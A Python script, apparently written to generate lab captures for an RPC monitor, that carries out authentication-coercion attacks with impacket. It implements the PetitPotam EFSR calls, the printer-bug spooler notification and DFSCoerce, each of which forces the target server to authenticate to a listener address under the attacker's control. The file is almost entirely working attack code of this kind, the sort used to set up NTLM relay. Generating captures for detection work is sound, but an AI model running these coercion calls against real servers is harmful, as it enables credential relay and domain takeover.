#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Authentication-coercion attempts (ATT&CK T1187) against a lab server, for rpcmon captures:

  1. MS-EFSR EfsRpcOpenFileRaw (opnum 0) and EfsRpcEncryptFileSrv (opnum 4) over \\pipe\\lsarpc
     with the EFSR interface c681d488-d850-11d0-8c52-00c04fd90f7e (PetitPotam's route);
  2. the same over \\pipe\\efsrpc with df1941c5-fe89-4e79-bf10-463657acf44d;
  3. MS-RPRN RpcOpenPrinter (1) + RpcRemoteFindFirstPrinterChangeNotificationEx (65) over
     \\pipe\\spoolss (the "printer bug"); with a zeroed handle when the open fails;
  4. MS-DFSNM NetrDfsAddStdRoot (12) and NetrDfsRemoveStdRoot (13) over \\pipe\\netdfs (DFSCoerce).

Each UNC path names LISTENER (the "attacker" address the server is coerced to contact). Where
Samba rejects the bind, the request is sent anyway on the rejected context (labrpc.force).

Usage: coerce.py [DOMAIN/]USER:PASSWORD@HOST LISTENER
"""
import sys

from impacket.dcerpc.v5 import rprn
from impacket.dcerpc.v5.dtypes import DWORD, ULONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL

import labrpc
from labrpc import log

EFSR_LSARPC = ('c681d488-d850-11d0-8c52-00c04fd90f7e', '1.0')
EFSR_EFSRPC = ('df1941c5-fe89-4e79-bf10-463657acf44d', '1.0')
RPRN = ('12345678-1234-abcd-ef00-0123456789ab', '1.0')
DFSNM = ('4fc742e0-4a10-11cf-8273-00aa004ae673', '3.0')


class EfsRpcOpenFileRaw(NDRCALL):
    opnum = 0
    structure = (('FileName', WSTR), ('Flags', ULONG))


class EfsRpcEncryptFileSrv(NDRCALL):
    opnum = 4
    structure = (('FileName', WSTR),)


class NetrDfsAddStdRoot(NDRCALL):
    opnum = 12
    structure = (('ServerName', WSTR), ('RootShare', WSTR), ('Comment', WSTR), ('ApiFlags', DWORD))


class NetrDfsRemoveStdRoot(NDRCALL):
    opnum = 13
    structure = (('ServerName', WSTR), ('RootShare', WSTR), ('ApiFlags', DWORD))


def efsr(host, cred, pipe, iface, listener):
    dce = labrpc.try_pipe(host, pipe, *cred)
    if dce is None:   # Samba has no \\pipe\\efsrpc: the SMB2 CREATE for it is what is on the wire
        return
    labrpc.bind(dce, iface, 'EFSR')
    r = EfsRpcOpenFileRaw()
    r['FileName'] = '\\\\%s\\share\\file.txt\x00' % listener
    r['Flags'] = 0
    labrpc.call(dce, 'EFSR', r)
    r = EfsRpcEncryptFileSrv()
    r['FileName'] = '\\\\%s\\share\\file.txt\x00' % listener
    labrpc.call(dce, 'EFSR', r)
    dce.disconnect()


def spoolss(host, cred, listener):
    dce = labrpc.smb_pipe(host, 'spoolss', *cred)
    labrpc.bind(dce, RPRN, 'RPRN')
    handle = b'\x00' * 20
    try:
        resp = rprn.hRpcOpenPrinter(dce, '\\\\%s\x00' % host)
        handle = resp['pHandle']
        log('CALL RPRN 1 RpcOpenPrinter -> ok')
    except Exception as e:
        log('CALL RPRN 1 RpcOpenPrinter -> %s' % labrpc.short(e))
    try:
        rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
            dce, handle, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine='\\\\%s\x00' % listener)
        log('CALL RPRN 65 RpcRemoteFindFirstPrinterChangeNotificationEx -> ok')
    except Exception as e:
        log('CALL RPRN 65 RpcRemoteFindFirstPrinterChangeNotificationEx -> %s' % labrpc.short(e))
    dce.disconnect()


def dfs(host, cred, listener):
    dce = labrpc.smb_pipe(host, 'netdfs', *cred)
    labrpc.bind(dce, DFSNM, 'DFSNM')
    r = NetrDfsAddStdRoot()
    r['ServerName'] = '%s\x00' % listener
    r['RootShare'] = 'test\x00'
    r['Comment'] = 'lab\x00'
    r['ApiFlags'] = 0
    labrpc.call(dce, 'DFSNM', r)
    r = NetrDfsRemoveStdRoot()
    r['ServerName'] = '%s\x00' % listener
    r['RootShare'] = 'test\x00'
    r['ApiFlags'] = 0
    labrpc.call(dce, 'DFSNM', r)
    dce.disconnect()


def main():
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    domain, user, password, host = labrpc.parse_target(sys.argv[1])
    cred = (domain, user, password)
    listener = sys.argv[2]
    return labrpc.run_steps([
        ('efsr-lsarpc', lambda: efsr(host, cred, 'lsarpc', EFSR_LSARPC, listener)),
        ('efsr-efsrpc', lambda: efsr(host, cred, 'efsrpc', EFSR_EFSRPC, listener)),
        ('spoolss', lambda: spoolss(host, cred, listener)),
        ('netdfs', lambda: dfs(host, cred, listener)),
    ])


if __name__ == '__main__':
    sys.exit(main())
